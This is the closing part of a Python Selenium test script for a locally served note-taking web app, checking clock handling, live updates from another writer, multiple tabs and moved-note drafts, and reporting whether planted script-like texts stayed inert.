        expect("2026" in driver.page_source, f"{name}: tasks have other days")
        driver.get(f"{served.address}/note/Clock/{name}.md")
        time.sleep(1)
        served.write(f"Clock/{name}.md", b"# Clock\n\nby another\n")
        until(lambda: "by another" in driver.find_element(By.ID, "Main").text, f"{name}: another's change does not show")
        driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": script})


def steps(name, run):
    """The other steps still tell something where one fails."""
    start, count = time.time(), len(problems)
    try:
        run()
    except Exception as error:
        problems.append(re.split("Stacktrace", str(error))[0].strip() or repr(error))
    for place in range(count, len(problems)):
        problems[place] = f"{name}: {problems[place]}"
    if "--times" in sys.argv:
        print(f"{name}: {time.time() - start:.1f} s")


def browser_that_is_odd(program):
    with Served(program) as served:
        driver = browser()
        try:
            driver.get(f"{served.address}/login?key={served.key}")
            for step in [full_browser, two_tabs, draft_of_a_moved_note, clock_off]:
                steps(step.__name__, lambda step=step: step(driver, served))
        finally:
            driver.quit()


def main():
    program, *arguments = sys.argv[1:]
    count, looks = vault_that_does_harm(program, "--long" in arguments)
    browser_that_is_odd(program)
    for problem in problems[:60]:
        print(problem)
    if not problems:
        print(f"{count} texts that are meant to run stood in {count * PLACES_IN_NOTE} places, and did nothing on {looks} pages; all is well")
    sys.exit(1 if problems else 0)


if __name__ == "__main__":
    main()
